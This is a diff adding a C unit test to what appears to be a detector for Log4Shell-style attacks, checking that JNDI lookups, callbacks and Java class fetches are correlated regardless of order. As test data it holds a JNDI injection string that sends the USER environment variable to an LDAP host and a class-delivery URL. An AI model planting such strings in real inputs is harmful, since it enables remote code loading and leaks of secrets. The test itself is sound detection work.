@@ -669,6 +669,40 @@ static void values_come_back_in_the_callback(void **state)
     told_is(t, "");
 }
 
+/* Whichever is known first: what was asked of the directory, the fetch, the lookup. */
+static void values_come_back_in_a_fetch(void **state)
+{
+    struct setting *t = *state;
+
+    for (unsigned order = 0; order < 6; order++) {
+        static const unsigned orders[6][3] = {{0, 1, 2}, {0, 2, 1}, {1, 0, 2},
+                                              {1, 2, 0}, {2, 0, 1}, {2, 1, 0}};
+
+        for (unsigned k = 0; k < 3; k++)
+            if (orders[order][k] == 0)
+                lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
+            else if (orders[order][k] == 1)
+                callback(t, 1, 9, "tomcat", T0 + S);
+            else
+                finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT,
+                        "yes", ATTR_JAVA_FETCH, "delivered", ATTR_HTTP_HOST, "203.0.113.9:8888",
+                        ATTR_HTTP_URI, "/x/tom%63at/P.class", ATTR_N);
+        correlate_finish(t->correlate);
+        assert_int_equal(t->n_leaks, 2);
+        assert_int_equal(t->incident->leaks->next->place, LEAK_HTTP);
+        restart(t);
+    }
+    /* By a host that is no JVM's fetch of Java code: nobody's. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
+    callback(t, 1, 9, "tomcat", T0 + S);
+    finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "no",
+            ATTR_JAVA_FETCH, "delivered", ATTR_HTTP_HOST, "203.0.113.9:8888", ATTR_HTTP_URI,
+            "/tomcat/P.class", ATTR_N);
+    correlate_finish(t->correlate);
+    assert_int_equal(t->n_leaks, 1);
+    restart(t);
+}
+
 static void a_window_ends(void **state)
 {
     struct setting *t = *state;
@@ -731,6 +765,7 @@ int main(void)
         with_story(a_callback_without_its_lookup_is_a_story_too),
         with_story(a_second_victim_is_linked_to_the_first),
         with_story(values_come_back_in_the_callback),
+        with_story(values_come_back_in_a_fetch),
         with_story(a_window_ends),
         with_story(memory_stays_below_its_ceiling),
     };
